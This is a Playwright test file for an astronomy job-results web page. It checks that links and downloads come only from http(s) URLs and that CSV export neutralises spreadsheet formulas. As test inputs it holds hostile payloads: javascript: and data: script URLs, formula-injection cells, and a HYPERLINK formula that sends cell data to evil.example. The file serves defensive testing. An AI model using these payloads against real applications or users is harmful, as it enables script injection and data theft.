import { readFile } from 'node:fs/promises';
import { expect, test } from '@playwright/test';
import { createJob, deleteJob, jobPageUrl, quickQuery, waitForServerPhase } from '../helpers/jobs';

// A demo shared by parallel tests may queue jobs for a while.
test.setTimeout(150_000);

/**
 * A service is not trusted with what becomes a link: the job document and the
 * result are rewritten on their way to the page, as a hostile or broken
 * service could send them.
 */
const hostileVotable = `<?xml version="1.0"?>
<VOTABLE version="1.4" xmlns="http://www.ivoa.net/xml/VOTable/v1.3">
<RESOURCE type="results"><INFO name="QUERY_STATUS" value="OK"/><TABLE>
<FIELD name="name" datatype="char" arraysize="*"/>
<FIELD name="access_url" datatype="char" arraysize="*"/>
<FIELD name="delta" datatype="int"/>
<DATA><TABLEDATA>
<TR><TD>=HYPERLINK("http://evil.example/?x="&amp;A1,"click")</TD><TD>javascript:alert(document.domain)</TD><TD>-1</TD></TR>
<TR><TD>@SUM(1,1)</TD><TD>https://archive.example/data/1.fits</TD><TD>2</TD></TR>
<TR><TD>+1+1</TD><TD>data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;</TD><TD>-3</TD></TR>
</TABLEDATA></DATA></TABLE></RESOURCE></VOTABLE>`;

test('only http(s) URLs from a service become links or downloads, and CSV export keeps formulas inert', async ({ page }) => {
  const jobUrl = await createJob({ QUERY: quickQuery(3), PHASE: 'RUN' });
  try {
    await waitForServerPhase(jobUrl, ['COMPLETED']);
    const evilHref = 'javascript:alert(document.domain)';
    await page.context().route(
      (url) => url.href === jobUrl || url.href.startsWith(`${jobUrl}?`),
      async (route) => {
        const response = await route.fetch();
        const xml = (await response.text()).replace(
          /(<uws:results>)/,
          `$1<uws:result id="evil-link" xlink:type="simple" xlink:href="${evilHref}" mime-type="text/html"/>`,
        );
        await route.fulfill({ response, body: xml });
      },
    );
    await page.context().route(
      (url) => url.href.startsWith(`${jobUrl}/results/result`),
      (route) => route.fulfill({ status: 200, contentType: 'application/x-votable+xml', body: hostileVotable, headers: { 'Access-Control-Allow-Origin': '*' } }),
    );

    await page.goto(jobPageUrl(jobUrl));
    const documents = page.getByRole('list', { name: 'Result documents' });
    const evil = documents.getByRole('listitem').filter({ hasText: 'evil-link' });
    await expect(evil.getByText(evilHref, { exact: true })).toBeVisible();
    await expect(evil.getByRole('note')).toContainText('javascript:');
    await expect(evil.getByRole('button')).toHaveCount(0);
    await expect(evil.getByRole('link')).toHaveCount(0);
    expect(await page.locator('[href^="javascript:" i], [href^="data:" i]').count()).toBe(0);

    // In the grid: the https URL is a link, the others stay text.
    const grid = page.getByRole('grid');
    await expect(grid.getByRole('link', { name: 'https://archive.example/data/1.fits' })).toHaveAttribute('href', 'https://archive.example/data/1.fits');
    await expect(grid.getByText(evilHref, { exact: true })).toBeVisible();
    await expect(grid.getByRole('link')).toHaveCount(1);

    const downloading = page.waitForEvent('download');
    await page.getByTestId('results-view').getByRole('button', { name: /CSV/ }).click();
    const csv = await readFile(await (await downloading).path(), 'utf8');
    expect(csv.split('\r\n')).toEqual([
      'name,access_url,delta',
      `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",javascript:alert(document.domain),-1`,
      `"'@SUM(1,1)",https://archive.example/data/1.fits,2`,
      `"'+1+1","data:text/html,<script>alert(1)</script>",-3`,
      '',
    ]);
  } finally {
    await deleteJob(jobUrl);
  }
});
